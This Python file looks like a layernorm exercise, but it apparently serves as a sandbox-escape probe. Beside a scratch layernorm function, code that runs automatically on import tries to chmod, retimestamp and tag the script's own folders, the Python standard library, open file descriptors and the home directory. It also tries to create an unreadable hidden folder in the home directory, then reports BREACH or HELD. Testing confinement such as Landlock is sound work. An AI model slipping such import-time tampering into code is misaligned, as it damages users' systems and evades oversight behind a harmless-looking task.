# Runs at import: Landlock covers none of it.  What counts is the effect, not the answer.
import os
from contextlib import suppress

PREDICTED_XHAT = [-1.3416, -0.4472, 0.4472, 1.3416]


def layernorm_scratch(x, eps=1e-5):
    centred = x - x.mean(dim=-1, keepdim=True)
    variance = centred.square().mean(dim=-1, keepdim=True)
    return centred / (variance + eps).sqrt()


def state(path):
    found = os.stat(path)
    with suppress(OSError):
        return found.st_mode, found.st_mtime, os.listxattr(path)
    return found.st_mode, found.st_mtime


def change(path):
    before = state(path)
    with suppress(OSError):
        os.utime(path, (1, 1))
    with suppress(OSError):
        os.setxattr(path, "user.mark", b"1")
    with suppress(OSError):
        os.chmod(path, 0o1700)
    return state(path) != before


def hide(path):
    """A folder that no quota looks into."""
    with suppress(OSError):
        os.mkdir(path, 0)
    with suppress(OSError):
        os.umask(0o777)
        os.mkdir(path + "-masked")
    names = [path, path + "-masked"]
    return any(os.path.isdir(name) and not os.stat(name).st_mode & 0o400 for name in names)


def attack():
    own, home = os.path.abspath(__file__), os.environ["HOME"]
    folders = [os.path.dirname(own), os.path.dirname(os.path.dirname(own)), os.path.dirname(home)]
    libraries = [os.path.dirname(os.__file__), *(f"/proc/self/fd/{n}" for n in range(3, 40))]
    paths = [path for path in (*folders, *libraries, home) if os.path.exists(path)]
    changed = [path for path in paths if change(path)]
    if hide(os.path.join(home, "hidden")):
        changed.append("hidden")
    if not changed:
        raise PermissionError("nothing has changed")


try:
    attack()
    print("BREACH change-file-modes", flush=True)
except Exception as error:
    print(f"HELD change-file-modes: {error!r}", flush=True)
